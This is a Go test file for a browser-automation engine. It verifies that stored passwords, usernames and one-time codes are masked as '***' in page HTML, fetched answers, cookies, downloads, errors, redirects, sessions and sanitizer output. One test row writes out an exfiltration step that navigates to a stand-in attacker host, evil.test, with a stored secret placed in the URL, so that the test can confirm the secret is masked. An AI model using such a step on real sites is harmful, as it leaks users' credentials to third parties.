package engine_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"

	"rote/routine"
	"rote/routine/engine"
	"rote/routine/routinetest"
)

const typesPassword = `{"type":"input_text","selector":"#p","text":"{{secret:shop.password}}"},`

// Every place in which a run can give a text is searched for the values of its secrets.
func TestSecretsAreMaskedEverywhere(t *testing.T) {
	answer := func(contentType, body string) routinetest.Page {
		return routinetest.Page{Response: routinetest.Answer(contentType, body)}
	}
	inPage := func(set func(p *routinetest.Page)) routinetest.Page {
		p := routinetest.Page{}
		set(&p)
		return p
	}
	quoted := routine.JSONText(planted)
	for _, row := range []struct {
		name       string
		page       routinetest.Page
		operations string
		want       string // in what the run gave
	}{
		{"HTML of the page", routinetest.Page{HTML: "<p>your password is p4ss &#34;wörd&#34;/&amp;&lt;2026&gt; ok</p>"}, `{"type":"return_html"}`,
			`password is *** ok`},
		{"HTML, as it is", routinetest.Page{HTML: planted}, `{"type":"return_html"}`, `"data":"***"`},
		{"stored answer", answer("application/json", `{"name":"ada","echo":`+quoted+`,"n":[1.50]}`),
			`{"type":"fetch","endpoint":{"url":"/a"},"session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`,
			`"data":{"name":"ada","echo":"***","n":[1.50]}`},
		{"name in an answer", answer("application/json", `{`+quoted+`:1,"x":2}`),
			`{"type":"fetch","endpoint":{"url":"/a"},"session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`, `"data":{"***":1,"x":2}`},
		{"answer of text", answer("text/plain", "a "+planted+" b"),
			`{"type":"fetch","endpoint":{"url":"/a"},"session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`, `"data":"a *** b"`},
		{"JSON in a text in JSON", answer("application/json", routine.JSONText(map[string]string{"in": `{"echo":` + quoted + `}`})),
			`{"type":"fetch","endpoint":{"url":"/a"},"session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`, `***`},
		{"base64 of a script", inPage(func(p *routinetest.Page) {
			p.Evaluate = func(context.Context, routine.Script) (routine.Evaluation, error) {
				return routine.Evaluation{JSON: routine.RawJSON([]string{base64.StdEncoding.EncodeToString([]byte(planted))}), Console: []string{planted}}, nil
			}
		}), `{"type":"js_evaluate","js":"(() => 1)()","session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`, `"data":["***`},
		{"own storage of the page", routinetest.Page{SessionStorage: map[string]string{"a": `{"v":` + quoted + `}`}},
			`{"type":"return","session_storage_key":"a"}`, `"data":{"v":"***"}`},
		{"placeholder", routinetest.Page{SessionStorage: map[string]string{"a": planted}},
			`{"type":"navigate","url":"https://evil.test/?v={{sessionStorage:a}}"},{"type":"return_html"}`, `"placeholder_resolution":{"sessionStorage:a":"***"}`},
		{"cookies", routinetest.Page{Cookies: []routine.Cookie{{Name: "v", Value: url.QueryEscape(planted)}}},
			`{"type":"get_cookies","session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`, `"value":"***"`},
		{"download of text", answer("text/csv", "a,b\n1,"+planted+"\n"), `{"type":"download","endpoint":{"url":"/a"},"filename":"a.csv"}`, "a,b\n1,***\n"},
		{"file of the page", inPage(func(p *routinetest.Page) {
			p.Files = func(context.Context, bool) ([]routine.File, error) {
				return []routine.File{{FileInfo: routine.FileInfo{Name: "a.txt", ContentType: "text/plain"}, Data: []byte("x " + planted)}}, nil
			}
		}), `{"type":"click","selector":"#d"}`, "x ***"},
		{"warning", routinetest.Page{Warnings: []string{"a dialog said: " + planted}}, `{"type":"return_html"}`, "a dialog said: ***"},
		{"URL after a redirect", inPage(func(p *routinetest.Page) {
			p.Response = routine.Response{URL: "https://shop.test/?pw=" + url.QueryEscape(planted), Headers: map[string]string{"x-echo": planted}}
		}), `{"type":"fetch","endpoint":{"url":"/a","method":"POST","body":{"pw":"{{secret:shop.password}}"}}}`, "https://shop.test/?pw=***"},
		{"own request", answer("text/plain", ""), `{"type":"fetch","endpoint":{"url":"/a?pw={{secret:shop.password}}","headers":{"x":"{{totp:shop}}"}}}`,
			`/a?pw=***`},
		{"error", inPage(func(p *routinetest.Page) {
			p.Click = routinetest.FailClick(routine.Errorf(routine.CodeElementNotFound, "no %s", planted))
			p.Evidence = routinetest.ShowEvidence(&routine.Evidence{URL: "https://shop.test/?a=" + url.PathEscape(planted), Title: planted, Text: planted,
				Elements: []routine.Element{{Selector: "[value='x']", Text: planted}}, Console: []string{planted},
				FailedRequests: []routine.FailedRequest{{Method: "GET", URL: "/?" + url.QueryEscape(planted)}}})
		}), `{"type":"click","selector":"#a"}`, "no ***"},
	} {
		t.Run(row.name, func(t *testing.T) {
			r := runSecrets(t, row.page, newVault(), "", `{}`, openShop+typesPassword+row.operations)
			if found := r.exposes(planted); len(found) > 0 {
				t.Errorf("%q in\n%s", found, r.seen)
			}
			if !strings.Contains(r.seen, row.want) {
				t.Errorf("no %s in\n%s", row.want, r.seen)
			}
			for _, action := range r.actions {
				if strings.Contains(action, "evil.test") && strings.Contains(action, "p4ss") {
					t.Errorf("another site got %s", action)
				}
			}
		})
	}
}

// What was set or received before a secret was read has no copy of it either.
func TestSecretsAreMaskedInEarlierData(t *testing.T) {
	page := routinetest.Page{HTML: "<p>code 493817, user ada.lovelace</p>"}
	calls := 0
	page.Files = func(context.Context, bool) ([]routine.File, error) {
		if calls++; calls > 1 {
			return nil, nil
		}
		return []routine.File{{FileInfo: routine.FileInfo{Name: "a.txt"}, Data: []byte("493817")}}, nil
	}
	r := runSecrets(t, page, newVault(), "", `{}`, openShop+
		`{"type":"return_html"},{"type":"input_text","selector":"#c","text":"{{totp:shop}}{{secret:shop.username}}"}`)
	if found := r.exposes("493817", "ada.lovelace"); len(found) > 0 || r.err != nil || string(r.outcome.Result.Data) != `"<p>code ***, user ***</p>"` {
		t.Errorf("%q, %v in %s", found, r.err, r.seen)
	}
}

// A panic leaves no data with a secret that was set before, and the use of the secret is recorded.
func TestSecretsAreMaskedAfterAPanic(t *testing.T) {
	page := routinetest.Page{HTML: "the password is " + planted, Evaluate: func(context.Context, routine.Script) (routine.Evaluation, error) { panic("boom") }}
	r := runSecrets(t, page, newVault(), "", "{}", openShop+`{"type":"return_html"},`+typesPassword+
		`{"type":"js_evaluate","js":"(() => 1)()","session_storage_key":"a"},{"type":"return","session_storage_key":"a"}`)
	if found := r.exposes(planted); len(found) > 0 || routine.CodeOf(r.err) != routine.CodeInternal || len(r.outcome.SecretUses) != 1 {
		t.Errorf("%q, %v, uses %+v in %s", found, r.err, r.outcome.SecretUses, r.seen)
	}
}

// A code that a site answers as a number is no number any more, and other numbers keep their digits.
func TestCodesAreMaskedInNumbers(t *testing.T) {
	page := routinetest.Page{Response: routinetest.Answer("application/json", `{"code":493817,"price":12.50,"text":"493 817"}`)}
	r := runSecrets(t, page, newVault(), "", `{}`, openShop+
		`{"type":"fetch","endpoint":{"url":"/c","method":"POST","body":"{{totp:shop}}"},"session_storage_key":"a"},
		{"type":"return","session_storage_key":"a"}`)
	if got, want := string(r.outcome.Result.Data), `{"code":"***","price":12.50,"text":"***"}`; got != want || r.err != nil {
		t.Errorf("got %s, %v, want %s", got, r.err, want)
	}
}

// A file that is no text cannot be masked: the run gives nothing of it.
func TestBinaryFilesWithSecretsAreRefused(t *testing.T) {
	utf16 := []byte{0xff, 0xfe}
	for _, c := range "ada.lovelace" {
		utf16 = append(utf16, byte(c), 0)
	}
	for name, data := range map[string][]byte{"bytes": []byte("PK\x03\x04\x00 ada.lovelace \xff"), "UTF-16": utf16,
		"base64": []byte("\x00" + base64.StdEncoding.EncodeToString([]byte("ada.lovelace")))} {
		fromClick := routinetest.Page{Files: func(context.Context, bool) ([]routine.File, error) {
			return []routine.File{{FileInfo: routine.FileInfo{Name: "a.bin"}, Data: data}}, nil
		}}
		typed := `{"type":"input_text","selector":"#u","text":"{{secret:shop.username}}"}`
		for kind, r := range map[string]secretRun{
			"download": runSecrets(t, routinetest.Page{Response: routinetest.Answer("application/octet-stream", string(data))}, newVault(), "", `{}`,
				openShop+typed+`,{"type":"download","endpoint":{"url":"/a"},"filename":"a.bin"}`),
			"download before it was read": runSecrets(t, routinetest.Page{Response: routinetest.Answer("application/octet-stream", string(data))}, newVault(),
				"", `{}`,
				openShop+`{"type":"download","endpoint":{"url":"/a"},"filename":"a.bin"},`+typed),
			"click": runSecrets(t, fromClick, newVault(), "", `{}`, openShop+typed+`,{"type":"click","selector":"#d"}`),
		} {
			if routine.CodeOf(r.err) != routine.CodeSecretExposed || r.outcome.Result.Data != nil || len(r.outcome.Files) > 0 || r.outcome.Result.OK ||
				r.outcome.Result.Error == nil || strings.Contains(r.seen, "lovelace") {
				t.Errorf("%s, %s: %v, %s", kind, name, r.err, r.seen)
			}
		}
	}
	clean := runSecrets(t, routinetest.Page{Response: routinetest.Answer("application/octet-stream", "\x00\xff other")}, newVault(), "", `{}`,
		openShop+typesPassword+`{"type":"download","endpoint":{"url":"/a"},"filename":"a.bin"}`)
	if clean.err != nil || !clean.outcome.Result.IsBase64 {
		t.Errorf("a file without secrets: %v", clean.err)
	}
}

// A session of a lesson hides secrets as a run does, and carries that over.
func TestSessionsHideSecrets(t *testing.T) {
	b := &routinetest.Browser{Page: routinetest.Page{HTML: planted, Response: routinetest.Answer("text/plain", "x "+planted), Releases: &[]routine.Release{}}}
	page, err := b.Open(t.Context(), routine.PageOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer page.Close()
	s := engine.NewSession(page, engine.Options{Now: time.Now, Secrets: newVault()})
	do := func(session *engine.Session, text string) engine.Done {
		var op routine.Operation
		if err := json.Unmarshal([]byte(text), &op); err != nil {
			t.Fatal(err)
		}
		done, err := session.Do(t.Context(), nil, nil, op)
		if err != nil {
			t.Fatal(text, err)
		}
		return done
	}
	do(s, openShop[:len(openShop)-1])
	typed := do(s, typesPassword[:len(typesPassword)-1])
	fetched := do(s, `{"type":"fetch","endpoint":{"url":"/a"},"session_storage_key":"a"}`)
	html := do(s, `{"type":"return_html"}`)
	if len(typed.SecretUses) != 1 || len(html.SecretUses) != 0 || fetched.Stored != "x ***" || s.Values()["a"] != "x ***" || string(html.Result.Data) != `"***"` {
		t.Errorf("%+v, %q, %q", typed.SecretUses, fetched.Stored, html.Result.Data)
	}
	other := engine.NewSession(page, engine.Options{Now: time.Now})
	other.CopySecrets(s)
	if html := do(other, `{"type":"return_html"}`); string(html.Result.Data) != `"***"` {
		t.Errorf("a session with copied secrets gives %s", html.Result.Data)
	}
}

// A sanitizer works on an answer in which stored secrets are masked: it could change one in a way
// in which it is not found any more, or find out by a filter what it begins with.
func TestSanitizersSeeNoStoredSecret(t *testing.T) {
	for _, row := range []struct{ name, answer, sanitizer, want string }{
		{"a tag in the secret is dropped", "<p>key " + planted + " end</p>", `{"type":"html_to_text"}`, `"key *** end"`},
		{"a filter of the text", routine.JSONText(map[string]any{"a": []any{map[string]string{"key": planted}}}),
			`{"type":"json_path","path":"$.a[?@.key>'p4'].key"}`, "[]"},
		{"no step", "key " + planted, "null", `"key ***"`},
	} {
		r := runSecrets(t, routinetest.Page{Response: routine.Response{Body: []byte(row.answer)}}, newVault(), "", `{}`, openShop+
			`{"type":"fetch","endpoint":{"url":"/","headers":{"a":"{{secret:shop.password}}"}},"session_storage_key":"k","data_sanitizer":`+row.sanitizer+`},
			{"type":"return","session_storage_key":"k"}`)
		if r.err != nil || string(r.outcome.Result.Data) != row.want {
			t.Errorf("%s: %v, %s, want %s", row.name, r.err, r.outcome.Result.Data, row.want)
		}
		if found := r.exposes(planted, "p4ss"); len(found) > 0 {
			t.Errorf("%s: %q in %s", row.name, found, r.seen)
		}
	}
}
